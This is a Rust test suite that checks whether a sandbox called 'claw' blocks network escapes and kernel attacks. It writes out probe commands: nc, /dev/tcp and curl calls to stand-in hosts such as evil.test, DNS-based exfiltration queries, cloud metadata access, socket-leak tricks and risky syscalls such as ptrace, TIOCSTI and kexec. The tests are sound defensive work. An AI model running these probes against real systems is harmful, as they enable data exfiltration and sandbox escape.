//! What a policy does not name is not reached, by whatever way. Each attack first succeeds where nothing stops it.

#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise")]

use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};

use claw_testkit::{Lab, Outcome, Server, User, each, names, once, sink, sink_datagrams};

const CLAW: &str = env!("CARGO_BIN_EXE_claw");

/// The program gets through without claw; in claw it fails within a second and nothing arrives.
fn refused(lab: &Lab, server: &Server, code: &str) -> Outcome {
    let outcome = stopped(lab, server, code);
    let took = outcome.stdout.lines().find_map(|line| line.strip_prefix("ms=")).unwrap();
    assert!(took.parse::<u32>().unwrap() < 1000, "a refusal must be fast: {outcome:#?}");
    outcome
}

/// The program gets through without claw; in claw it fails and nothing arrives.
fn stopped(lab: &Lab, server: &Server, code: &str) -> Outcome {
    let before = server.arrivals();
    lab.bare_python(code).ends(0).says("REACHED");
    assert!(server.until(|server| server.arrivals() > before), "the attack must work without claw");
    let before = server.arrivals();
    let outcome = lab.python(code).ends(1);
    assert_eq!(server.arrivals(), before, "something arrived: {outcome:#?}");
    outcome
}

fn connects(address: &str, port: u16) -> String {
    format!("attempt(lambda: talk(('{address}', {port})))")
}

#[test]
fn a_raw_address_cannot_be_reached() {
    each(CLAW, |lab| {
        for address in [Lab::PUBLIC, Lab::PRIVATE, Lab::PUBLIC6, Lab::PRIVATE6] {
            let server = sink(address, 0);
            let run = refused(lab, &server, &connects(address, server.port())).says("ECONNREFUSED");
            run.denied(address, server.port(), "");
        }
    });
}

#[test]
fn what_is_refused_last_is_written_down() {
    each(CLAW, |lab| {
        let script = "for port in $(seq 1001 1040); do (exec 3<>/dev/tcp/198.51.100.7/$port) 2>/dev/null; done; kill -KILL $$";
        for _ in 0..10 {
            let mut run = lab.claw().command(&["bash", "-c", script]).ends(128 + 9);
            for port in 1001..=1040 {
                run = run.denied("198.51.100.7", port, "");
            }
        }
    });
}

#[test]
fn a_mapped_address_cannot_be_reached() {
    each(CLAW, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        let port = server.port();
        let code = format!("attempt(lambda: talk(('::ffff:8.8.8.8', {port}), family=socket.AF_INET6))");
        refused(lab, &server, &code).says("ECONNREFUSED").denied(Lab::PUBLIC, port, "");
    });
}

#[test]
fn the_real_address_of_an_allowed_name_cannot_be_reached_directly() {
    each(CLAW, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        lab.hosts(&format!("{} api.lab.test", Lab::PUBLIC));
        lab.policy(&[format!("destination: \"api.lab.test:{}\"", server.port())], "");
        refused(lab, &server, &connects(Lab::PUBLIC, server.port())).says("ECONNREFUSED");
    });
}

#[test]
fn another_port_of_an_allowed_name_cannot_be_reached() {
    each(CLAW, |lab| {
        let (open, closed) = (sink(Lab::PUBLIC, 0), sink(Lab::PUBLIC, 0));
        lab.hosts(&format!("{} api.lab.test", Lab::PUBLIC));
        lab.policy(&[format!("destination: \"api.lab.test:{}\"", open.port())], "");
        let code =
            format!("attempt(lambda: talk(('api.lab.test', {}), family=socket.AF_INET))", closed.port());
        refused(lab, &closed, &code).says("ECONNREFUSED").denied("api.lab.test", closed.port(), "no-rule");
    });
}

#[test]
fn the_other_transport_of_an_allowed_name_cannot_be_used() {
    each(CLAW, |lab| {
        let open = sink(Lab::PUBLIC, 0);
        let closed = sink_datagrams(Lab::PUBLIC, open.port());
        lab.hosts(&format!("{} api.lab.test", Lab::PUBLIC));
        lab.policy(&[format!("destination: \"api.lab.test:{}\"", open.port())], "");
        let code = format!(
            "attempt(lambda: talk(('api.lab.test', {}), family=socket.AF_INET, kind=socket.SOCK_DGRAM))",
            open.port()
        );
        refused(lab, &closed, &code).denied("api.lab.test", open.port(), "no-rule");
    });
}

#[test]
fn names_that_only_look_allowed_are_refused() {
    each(CLAW, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        let port = server.port();
        let lies = [
            "evil.test",
            "x.api.lab.test",
            "api.lab.test.evil.test",
            "xapi.lab.test",
            "lab.test",
            "wild.lab.test",
            "xwild.lab.test",
            "a.wild.lab.test.evil.test",
        ];
        lab.hosts(&lies.map(|name| format!("{} {name}", Lab::PUBLIC)).join("\n"));
        lab.policy(
            &[
                format!("destination: \"api.lab.test:{port}\""),
                format!("destination: \"*.wild.lab.test:{port}\""),
            ],
            "",
        );
        for name in lies {
            let code = format!("attempt(lambda: talk(('{name}', {port}), family=socket.AF_INET))");
            let run = refused(lab, &server, &code);
            assert!(run.looked_up(name, "deny"), "{run:#?}");
            assert!(!run.looked_up(name, "allow"), "{run:#?}");
        }
    });
}

#[test]
fn tools_that_bring_their_own_address_reach_nothing() {
    each(CLAW, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        let port = server.port();
        let scripts = [
            format!(
                "curl -sSN -m 1 --http0.9 --resolve evil.test:{port}:8.8.8.8 http://evil.test:{port}/ | grep sunk"
            ),
            format!(
                "curl -sSN -m 1 --http0.9 --connect-to evil.test:80:8.8.8.8:{port} http://evil.test/ | grep sunk"
            ),
            format!("echo hello | nc -w 1 8.8.8.8 {port} | grep sunk"),
            format!("bash -c 'exec 5<>/dev/tcp/8.8.8.8/{port}; echo hello >&5; head -c 4 <&5' | grep sunk"),
        ];
        for script in scripts {
            let before = server.arrivals();
            lab.bare(&script).ends(0).says("sunk");
            assert!(server.arrivals() > before, "the attack must work without claw");
            let before = server.arrivals();
            let run = lab.run(&script);
            assert_ne!(run.code, 0, "{run:#?}");
            assert_eq!(server.arrivals(), before);
            run.denied(Lab::PUBLIC, port, "");
        }
    });
}

#[test]
fn the_same_probe_succeeds_in_a_sandbox_that_shares_the_network() {
    once(CLAW, User::Root, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        let attack = format!("python3 {}", lab.program_file(&connects(Lab::PUBLIC, server.port())));
        let weak = "bwrap --ro-bind / / --dev /dev --proc /proc --unshare-user --unshare-pid";
        lab.bare(&format!("{weak} {attack}")).ends(0).says("REACHED");
        assert_eq!(server.arrivals(), 1);
        lab.run(&attack).ends(1).denied(Lab::PUBLIC, server.port(), "");
        assert_eq!(server.arrivals(), 1);
    });
}

#[test]
fn no_question_reaches_a_real_name_server() {
    each(CLAW, |lab| {
        let server = names(Lab::PUBLIC);
        let script = "dig +tries=1 +time=1 @8.8.8.8 secret-bytes.evil.test";
        lab.bare(script).ends(0).says("10.77.0.1");
        assert_eq!(server.arrivals(), 1);
        lab.policy(&["destination: \"api.lab.test:443\"".to_owned()], "");
        for name in ["secret-bytes.evil.test", "secret-bytes.api.lab.test", "api.lab.test"] {
            lab.run(&format!(
                "dig +tries=1 +time=1 @8.8.8.8 {name}; dig +tries=1 +time=1 @8.8.8.8 TXT {name}"
            ))
            .ends(0);
        }
        assert_eq!(server.arrivals(), 1, "a question left");
    });
}

#[test]
fn a_blast_of_datagrams_arrives_nowhere() {
    each(CLAW, |lab| {
        for address in [Lab::PUBLIC, Lab::PUBLIC6] {
            let server = sink_datagrams(address, 0);
            let port = server.port();
            let code = format!(
                "family = socket.AF_INET6 if ':' in '{address}' else socket.AF_INET
blaster = socket.socket(family, socket.SOCK_DGRAM)
for number in range(1000):
    try:
        blaster.sendto(b'x' * 100, ('{address}', {port}))
    except OSError:
        pass"
            );
            lab.bare_python(&code).ends(0);
            assert!(server.until(|server| server.arrivals() > 100), "the attack must work without claw");
            std::thread::sleep(std::time::Duration::from_millis(300));
            let before = server.arrivals();
            let run = lab.python(&code).ends(0);
            assert_eq!(server.arrivals(), before);
            assert!(run.records.len() < 100, "{} records for one repeated refusal", run.records.len());
            run.denied(address, port, "");
        }
    });
}

#[test]
fn a_name_that_leads_to_a_private_address_is_refused() {
    each(CLAW, |lab| {
        for address in [Lab::PRIVATE, "127.0.0.1", Lab::PRIVATE6, "::1", Lab::METADATA, "::ffff:10.77.0.1"] {
            let listen = if address.starts_with("::ffff") { Lab::PRIVATE } else { address };
            let server = sink(listen, 0);
            let port = server.port();
            lab.hosts(&format!("{address} rebound.lab.test"));
            lab.policy(&[format!("destination: \"rebound.lab.test:{port}\"")], "");
            let code = format!("attempt(lambda: talk(socket.getaddrinfo('rebound.lab.test', {port})[0][4]))");
            // not held to a second: the host's resolver may wait for its name server
            stopped(lab, &server, &code).denied("rebound.lab.test", port, "private-address");
        }
    });
}

#[test]
fn a_private_answer_is_reached_only_if_the_rule_says_so() {
    each(CLAW, |lab| {
        let server = sink(Lab::PRIVATE, 0);
        let port = server.port();
        lab.hosts("10.77.0.1 inner.lab.test");
        lab.policy(&[format!("destination: \"inner.lab.test:{port}\", private: allow")], "");
        lab.python(&connects("inner.lab.test", port).replace(")))", "), family=socket.AF_INET))"))
            .ends(0)
            .says("sunk");
        assert_eq!(server.arrivals(), 1);
    });
}

/// A list that closes, with one rule, as it follows the rules that open.
fn closing(list: &str, rule: &str) -> String {
    let (above, indent) = if list == "never" { ("", "  ") } else { ("  ", "    ") };
    format!("{above}{list}:\n{indent}- {{{rule}}}\n")
}

#[test]
fn a_closed_network_is_not_reached_by_a_name_that_leads_there() {
    each(CLAW, |lab| {
        let server = sink(Lab::PRIVATE, 0);
        let port = server.port();
        lab.hosts(&format!("{} inner.lab.test", Lab::PRIVATE));
        let code = format!("attempt(lambda: talk(('inner.lab.test', {port}), family=socket.AF_INET))");
        for (list, reason) in [("deny", "deny-rule"), ("never", "never")] {
            for (network, path) in [("10.0.0.0/8:*", "relay"), ("10.77.0.1:1-65535", "brokered")] {
                let opens = format!("destination: \"*.lab.test:{port}\", private: allow, path: {path}");
                lab.policy(&[opens], &closing(list, &format!("destination: \"{network}\"")));
                let run = stopped(lab, &server, &code).denied("inner.lab.test", port, reason);
                let told = |record: &&serde_json::Value| {
                    record["sentence"].as_str().is_some_and(|said| said.contains("it leads to 10.77.0.1"))
                };
                assert!(run.of_kind("connect").iter().any(told), "{run:#?}");
            }
        }
    });
}

#[test]
fn a_closed_network_is_not_reached_by_the_addresses_of_a_rule() {
    each(CLAW, |lab| {
        let (server, other) = (sink(Lab::PRIVATE, 0), Lab::PUBLIC);
        let port = server.port();
        let public = sink(other, port);
        lab.hosts(&format!("{} inner.lab.test", Lab::PRIVATE));
        let code = format!("attempt(lambda: talk(('inner.lab.test', {port}), family=socket.AF_INET))");
        let denied = closing("deny", "destination: \"10.77.0.0/16:*\"");
        lab.policy(&[server.rule("inner.lab.test")], &denied);
        stopped(lab, &server, &code).denied("inner.lab.test", port, "deny-rule");
        let both = format!("destination: \"inner.lab.test:{port}\", addresses: [{}, {other}]", Lab::PRIVATE);
        lab.policy(&[both], &denied);
        let before = server.arrivals();
        lab.python(&code).ends(0).allowed("inner.lab.test", port);
        assert_eq!((server.arrivals(), public.arrivals()), (before, 1), "the other address is open");
    });
}

#[test]
fn a_closed_network_closes_its_ports_and_planes_and_no_others() {
    each(CLAW, |lab| {
        let server = sink(Lab::PRIVATE, 0);
        let port = server.port();
        let code = format!("attempt(lambda: talk(('inner.lab.test', {port}), family=socket.AF_INET))");
        let elsewhere = [
            "destination: \"10.77.0.0/16:443\"".to_owned(),
            "destination: \"10.78.0.0/16:*\"".to_owned(),
            format!("destination: \"10.77.0.0/16:{port}\", protocol: UDP"),
            format!("destination: \"10.77.0.0/16:{port}\", plane: update"),
        ];
        for rule in elsewhere {
            lab.policy(&[server.rule("inner.lab.test")], &closing("deny", &rule));
            lab.python(&code).ends(0).allowed("inner.lab.test", port);
        }
        let own = format!("destination: \"10.77.0.0/16:{port}\", plane: tool, protocol: TCP");
        lab.policy(&[server.rule("inner.lab.test")], &closing("deny", &own));
        lab.python(&code).ends(1).denied("inner.lab.test", port, "deny-rule");
        assert_eq!(server.arrivals(), 4);
    });
}

#[test]
fn datagrams_do_not_reach_a_closed_network_by_a_name() {
    each(CLAW, |lab| {
        let server = sink_datagrams(Lab::PRIVATE, 0);
        let port = server.port();
        lab.hosts(&format!("{} inner.lab.test", Lab::PRIVATE));
        let opens = format!("destination: \"inner.lab.test:{port}\", private: allow, protocol: UDP");
        lab.policy(&[opens], &closing("deny", "destination: \"10.0.0.0/8:*\""));
        let to = format!("('inner.lab.test', {port}), family=socket.AF_INET, kind=socket.SOCK_DGRAM");
        let code = format!("attempt(lambda: talk({to}))");
        stopped(lab, &server, &code).denied("inner.lab.test", port, "deny-rule");
    });
}

#[test]
fn metadata_services_are_refused_even_where_a_wide_rule_covers_them() {
    each(CLAW, |lab| {
        let server = sink(Lab::METADATA, 80);
        refused(lab, &server, &connects(Lab::METADATA, 80)).denied(Lab::METADATA, 80, "metadata");
        lab.hosts("169.254.169.254 metadata.google.internal");
        lab.policy(&["destination: \"*.google.internal:80\", private: allow".to_owned()], "");
        let code = "attempt(lambda: talk(('metadata.google.internal', 80), family=socket.AF_INET))";
        refused(lab, &server, code);
    });
}

#[test]
fn sockets_that_go_around_the_gate_do_not_exist() {
    each(CLAW, |lab| {
        let code = "kinds = {
    'raw': (2, 3, 1), 'raw6': (10, 3, 58), 'ping': (2, 2, 1), 'ping6': (10, 2, 58),
    'packet': (17, 3, 0x300), 'vsock': (40, 1, 0), 'alg': (38, 5, 0), 'audit': (16, 3, 9), 'netfilter': (16, 3, 12),
    'diag': (16, 3, 4), 'generic': (16, 3, 16), 'mptcp': (2, 1, 262), 'sctp': (2, 1, 132), 'sctp one to many': (2, 5, 132),
    'udplite': (2, 2, 136), 'bluetooth': (31, 3, 1), 'can': (29, 3, 1), 'key': (15, 3, 2), 'xdp': (44, 3, 0), 'tipc': (30, 2, 0)}
for name, (family, kind, protocol) in kinds.items():
    for flags in (0, socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC):
        try:
            syscall(41, family, kind | flags, protocol)
            print(name, 'opened')
        except OSError as error:
            print(name, errno.errorcode[error.errno])
for family, kind in ((2, 1), (2, 2), (10, 1), (10, 2), (1, 1)):
    socket.socket(family, kind)
print('ordinary sockets work')";
        if lab.user() == User::Root {
            let bare =
                lab.bare_python(code).ends(0).says("raw opened").says("packet opened").says("ordinary");
            assert!(
                bare.stdout.matches("opened").count() > 8,
                "this kernel has too few kinds to try: {bare:#?}"
            );
        }
        let run = lab.python(code).ends(0).says("ordinary sockets work");
        assert!(!run.stdout.contains("opened"), "{run:#?}");
        for line in run.stdout.lines().filter(|line| !line.starts_with("ordinary")) {
            assert!(line.ends_with("EAFNOSUPPORT") || line.ends_with("EPROTONOSUPPORT"), "{line}");
        }
    });
}

#[test]
fn calls_that_attack_the_kernel_are_refused() {
    each(CLAW, |lab| {
        let code = "calls = {
    'io_uring_setup': (425, 8, ctypes.create_string_buffer(120)), 'memfd_secret': (447, 0), 'ptrace': (101, 0, 0, 0, 0),
    'mount': (165, b'none', b'/tmp', b'tmpfs', 0, 0), 'umount2': (166, b'/tmp', 2), 'open_tree': (428, -100, b'/', 1),
    'fsopen': (430, b'tmpfs', 0), 'pivot_root': (155, b'/', b'/'), 'chroot': (161, b'/'), 'setns': (308, 0, 0),
    'user namespace': (272, 0x10000000), 'network namespace': (272, 0x40000000), 'mount namespace': (272, 0x20000),
    'clone': (56, 0x10000000 | 17, 0, 0, 0, 0), 'personality': (135, 0x40000), 'bpf': (321, 0, 0, 0),
    'perf_event_open': (298, 0, 0, 0, 0, 0), 'userfaultfd': (323, 1), 'keyctl': (250, 0, -3, 1),
    'process_vm_readv': (310, os.getppid(), 0, 0, 0, 0, 0), 'open_by_handle_at': (304, -100, 0, 0),
    'TIOCSTI': (16, 0, 0x5412, b'x'), 'TIOCLINUX': (16, 0, 0x541c, b'x'), 'TIOCSTI above 32 bits': (16, 0, ctypes.c_ulong(0x100005412), b'x'),
    'init_module': (175, 0, 0, b''), 'kexec_load': (246, 0, 0, 0, 0), 'pidfd_getfd': (438, 0, 0, 0), 'syslog': (103, 3, 0, 0)}
for name, arguments in calls.items():
    try:
        result = syscall(*arguments)
        print(name, 'DONE')
        if name == 'clone' and result == 0: os._exit(0)
    except OSError as error:
        print(name, errno.errorcode[error.errno])";
        let run = lab.python(code).ends(0);
        for line in run.stdout.lines() {
            assert!(line.ends_with("EPERM"), "{line} in {run:#?}");
        }
        assert!(run.stdout.lines().count() >= 27, "{run:#?}");
        lab.python("attempt(lambda: syscall(435, ctypes.create_string_buffer(88), 88))")
            .ends(1)
            .says("ENOSYS");
    });
}

#[test]
fn fast_open_is_refused() {
    each(CLAW, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        let code = format!(
            "def send():
    connection = socket.socket()
    connection.settimeout(None)
    connection.sendto(b'hello', 0x20000000, ('8.8.8.8', {}))
    connection.recv(10)
attempt(send)",
            server.port()
        );
        refused(lab, &server, &code).says("ENOTSUP");
    });
}

#[test]
fn calls_of_a_foreign_abi_end_the_process() {
    each(CLAW, |lab| {
        lab.compile(
            "foreign",
            "int main(void) { int pid; __asm__ volatile (\"int $0x80\" : \"=a\"(pid) : \"a\"(20)); return pid > 0 ? 0 : 1; }",
        );
        lab.compile(
            "x32",
            "#include <unistd.h>\n#include <sys/syscall.h>\nint main(void) { return syscall(0x40000000 | 39) > 0 ? 0 : 3; }",
        );
        let bare = lab.bare("./foreign");
        assert!(
            bare.code == 0,
            "this kernel has no 32-bit system calls to attack with (CONFIG_IA32_EMULATION): {bare:#?}"
        );
        lab.run("exec ./foreign").ends(128 + 31);
        let x32 = lab.run("exec ./x32");
        assert!(x32.code == 3 || x32.code == 128 + 31, "{x32:#?}");
    });
}

#[test]
fn unix_sockets_of_the_host_cannot_be_connected() {
    each(CLAW, |lab| {
        let name = format!("claw-lab-{}-{:?}", std::process::id(), lab.user());
        let hidden = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
        let path = lab.path("work/host.sock");
        let seen = UnixListener::bind(&path).unwrap();
        lab.own(&path, 0o777);
        for (listener, address) in [(hidden, format!("\\0{name}")), (seen, path.display().to_string())] {
            listener.set_nonblocking(true).unwrap();
            let code = format!(
                "def attack():
    socket.socket(socket.AF_UNIX).connect('{address}')
attempt(attack)"
            );
            lab.bare_python(&code).ends(0).says("REACHED");
            listener.accept().expect("the attack must work without claw");
            lab.python(&code).ends(1).says("ECONNREFUSED");
            assert!(listener.accept().is_err(), "something arrived");
        }
    });
}

#[test]
fn an_inherited_socket_is_closed() {
    each(CLAW, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        let opener = format!(
            "import os, socket, sys
s = socket.create_connection(('8.8.8.8', {}))
os.dup2(s.fileno(), 9); os.set_inheritable(9, True)
os.execvp(sys.argv[1], sys.argv[1:])",
            server.port()
        );
        let around = ["python3", "-c", &opener];
        lab.plain().inside(&around).sh("echo leak >&9").ends(0);
        assert!(server.until(|server| server.received() == b"leak\n"));
        let run = lab.claw().inside(&around).sh("ls /proc/self/fd; echo leak >&9");
        assert_ne!(run.code, 0, "{run:#?}");
        assert!(!run.stdout.contains('9'), "{run:#?}");
        assert_eq!(server.received(), b"leak\n");
    });
}

#[test]
fn the_network_inside_cannot_be_changed() {
    each(CLAW, |lab| {
        let changes = [
            "nft flush ruleset",
            "nft list ruleset | grep -q .",
            "ip addr add 10.9.9.9/32 dev lo",
            "ip link set lo down",
            "ip link add veth9 type veth",
            "ip route add 9.0.0.0/8 dev lo",
            "ip rule add pref 1 lookup main",
            "ip netns add evil",
            "unshare -Ur true",
            "unshare -n true",
        ];
        for change in changes {
            let run = lab.run(change);
            assert_ne!(run.code, 0, "`{change}` was done: {run:#?}");
        }
        if lab.user() == User::Root {
            lab.bare("ip addr add 10.9.9.9/32 dev lo && unshare -n true").ends(0);
        }
    });
}

#[test]
fn the_gate_itself_gives_nothing_to_those_who_knock() {
    each(CLAW, |lab| {
        let server = sink(Lab::PRIVATE, 0);
        lab.policy(&[server.rule("api.lab.test")], "");
        let code = format!(
            "own = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')]
assert own
def knock(address, port):
    try:
        talk((address, port), b'GET http://api.lab.test:{0}/ HTTP/1.1\\r\\nHost: api.lab.test:{0}\\r\\n\\r\\n')
        print('ANSWERED', address, port)
    except (OSError, EOFError) as error:
        print(errno.errorcode.get(error.errno or 0, 'closed'))
for address in own + ['127.0.0.1', '::1']:
    for port in (1, {0}, 80, 3128):
        knock(address, port)",
            server.port()
        );
        let run = lab.python(&code).ends(0);
        assert!(!run.stdout.contains("ANSWERED"), "{run:#?}");
        assert_eq!(server.arrivals(), 0);
    });
}

#[test]
fn a_deny_rule_wins_over_a_wildcard() {
    each(CLAW, |lab| {
        let server = sink(Lab::PUBLIC, 0);
        let port = server.port();
        lab.hosts(&format!("{0} good.lab.test\n{0} bad.lab.test", Lab::PUBLIC));
        let deny = "  deny:\n    - {destination: \"bad.lab.test:*\", plane: tool, purpose: never}\n";
        lab.policy(&[format!("destination: \"*.lab.test:{port}\"")], deny);
        let code = |name: &str| format!("attempt(lambda: talk(('{name}', {port}), family=socket.AF_INET))");
        lab.python(&code("good.lab.test")).ends(0);
        refused(lab, &server, &code("bad.lab.test"));
    });
}
